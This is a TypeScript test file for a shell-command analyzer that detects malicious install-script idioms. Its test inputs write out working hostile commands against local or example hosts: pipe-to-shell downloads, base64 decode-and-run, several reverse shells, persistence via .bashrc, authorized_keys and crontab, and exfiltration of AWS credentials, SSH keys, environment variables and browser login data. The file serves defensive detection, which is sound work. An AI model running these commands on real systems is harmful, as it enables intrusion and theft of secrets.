/** The shell reader: the malicious idioms it must find, and ordinary install steps it must leave alone. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeShell, classifyPrograms, suspiciousCommand } from '../../../src/formats/python/shell.js';

const rules = (s: string) => analyzeShell(s).hits.map((h) => h.rule);

test('fetch and run', () => {
  for (const s of [
    'curl -fsSL http://127.0.0.1/x.sh | sh',
    'wget -qO- https://example.com/i | sudo -E bash -s -- --yes',
    'bash <(curl -s https://example.com/i)',
    'sh -c "$(curl -fsSL https://example.com/i)"',
    'eval "$(wget -qO- http://127.0.0.1/x)"',
    'curl -o /tmp/x http://127.0.0.1/x && chmod +x /tmp/x && /tmp/x',
    'wget http://127.0.0.1/payload.sh; sh payload.sh',
    'curl -s http://127.0.0.1/p.py | python3 -',
    "$'\\x63\\x75\\x72\\x6c' http://127.0.0.1/x | sh",
  ]) assert.ok(rules(s).includes('remote-code'), s);
});

test('decode and run, reverse shells', () => {
  assert.ok(rules('echo dG91Y2ggL3RtcC94 | base64 -d | sh').includes('decode-exec'));
  assert.ok(rules('bash -c "$(echo dG91Y2g= | base64 --decode)"').includes('decode-exec'));
  for (const s of [
    'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1',
    'nc -e /bin/sh 127.0.0.1 4444',
    'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f',
    'socat tcp:127.0.0.1:4444 exec:/bin/sh',
    'python -c \'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",4444));os.dup2(s.fileno(),0);pty.spawn("sh")\'',
  ]) assert.ok(rules(s).includes('reverse-shell'), s);
});

test('persistence and exfiltration', () => {
  for (const s of [
    'echo "touch /tmp/m" >> ~/.bashrc',
    'echo ssh-ed25519 AAAA x | tee -a $HOME/.ssh/authorized_keys',
    '(crontab -l; echo "* * * * * touch /tmp/m") | crontab -',
    'cp evil.pth /usr/lib/python3/dist-packages/evil.pth',
    'cat <<EOF >> ~/.profile\ntouch /tmp/m\nEOF',
  ]) assert.ok(rules(s).includes('persistence'), s);
  for (const s of [
    'curl -X POST -d @$HOME/.aws/credentials http://127.0.0.1:8000',
    'env | curl -d @- http://127.0.0.1:8000',
    'curl -d "$(printenv)" http://127.0.0.1:8000',
    'cat ~/.ssh/id_rsa | nc 127.0.0.1 9000',
    'curl -F "f=@$HOME/.config/google-chrome/Default/Login Data" http://127.0.0.1',
  ]) assert.ok(rules(s).includes('exfiltration'), s);
  assert.deepEqual(rules('cat ~/.aws/credentials'), ['credential-access']);
});

test('ordinary install steps are quiet', () => {
  const script = [
    '#!/bin/bash',
    'set -euo pipefail',
    '# curl http://x | sh  (a comment)',
    'pip install -r requirements.txt',
    'git clone https://github.com/org/repo && cd repo',
    'wget -q https://huggingface.co/org/m/resolve/main/model.bin -O weights/model.bin',
    'curl -L -o data.zip https://example.com/data.zip && unzip data.zip',
    'curl -s https://api.github.com/repos/org/repo | python -c "import sys, json; print(json.load(sys.stdin)[\'name\'])"',
    'curl -s https://example.com/x.json | python -m json.tool',
    'echo "export PATH=$PATH:$(pwd)/bin" > env.sh',
    'crontab -l',
    'tar xzf data.tar.gz -C data/',
    'python setup.py develop',
  ].join('\n');
  assert.deepEqual(analyzeShell(script).hits, []);
});

test('python -c code and heredocs are handed back for Python analysis', () => {
  const a = analyzeShell('python3 -c "import os; os.system(\'id\')"\npython - <<EOF\nprint(1)\nEOF\n');
  assert.equal(a.python.length, 2);
  assert.equal(a.python[0].code, "import os; os.system('id')");
  assert.equal(a.python[1].code, 'print(1)\n');
});

test('program classification', () => {
  const cmds = (s: string) => analyzeShell(s).commands;
  assert.equal(classifyPrograms(cmds('git rev-parse HEAD')), 'ordinary');
  assert.equal(classifyPrograms(cmds('sudo -E nvcc --version')), 'ordinary');
  assert.equal(classifyPrograms(cmds('pip install flash-attn')), 'installer');
  assert.equal(classifyPrograms(cmds('python -m pip install x')), 'installer');
  assert.equal(classifyPrograms(cmds('touch /tmp/x')), 'other');
  assert.ok(suspiciousCommand(cmds('bash -c …')), 'inline code that could not be read');
  assert.ok(!suspiciousCommand(cmds('bash -c "git pull"')), 'inline code that was read is judged by what it runs');
  assert.equal(classifyPrograms(cmds('bash -c "git pull && make"')), 'ordinary');
  assert.ok(suspiciousCommand(cmds('nc 1.2.3.4 80')));
  assert.ok(!suspiciousCommand(cmds('ls -la')));
});

test('never throws on junk', () => {
  for (const s of ['"', "'", '$(', '`', '<<', 'a | | b', '((((', '\\', '$\'\\x', 'cat <<EOF']) analyzeShell(s);
});
